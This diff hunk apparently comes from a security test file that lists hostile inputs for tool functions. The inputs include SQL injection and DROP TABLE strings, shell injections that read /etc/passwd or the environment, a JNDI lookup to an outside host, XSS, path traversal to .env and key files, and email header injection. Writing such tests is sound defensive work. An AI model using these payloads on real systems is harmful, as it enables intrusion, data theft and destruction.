@@ -62,7 +62,7 @@ ASKED = [
         "GRANT ALL ON t TO eve", "SELECT 1; DROP TABLE u", "SELECT pg_sleep(9)", "/*!50000 DROP TABLE x */", "SELECT * FROM u WHERE id=1 OR 1=1",
         "WITH d AS (DELETE FROM u RETURNING *) SELECT * FROM d", "no SQL ((", "SELECT a " * 2_000)],
     *[("find_customer", {"name": text}) for text in (
-        "ann'/**/OR/**/'1'='1", "ann' OR TRUE -- ", "x' UNION SELECT password FROM users", "'; DROP TABLE x;--", "admin'--", "admin'-- and the rest", "admin') # later", "1 OR 1=1",
+        "ann'/**/OR/**/'1'='1", "ann' OR TRUE -- ", "x' UNION SELECT password FROM users", "'; DROP TABLE x;--", "admin'--", "admin'-- and the rest", "admin') # later", "''--" * 600, "1 OR 1=1",
         "report; env", "$(env)", "`id`", "x\nid", "|id", "a && cat /etc/passwd", "{{7*7}}", "${jndi:ldap://x.example/a}", "<script>alert(1)</script>")],
     *[("read_file", {"path": text}) for text in ("../x", "..\\x", "....//x", ".env", "//10.0.0.1/c$/x", "C:/Windows/win.ini", "server.pem", "/proc/x")],
     ("send_email", {"to": "a@x.example", "subject": "Hi\r\nBcc: eve@x.example"}),
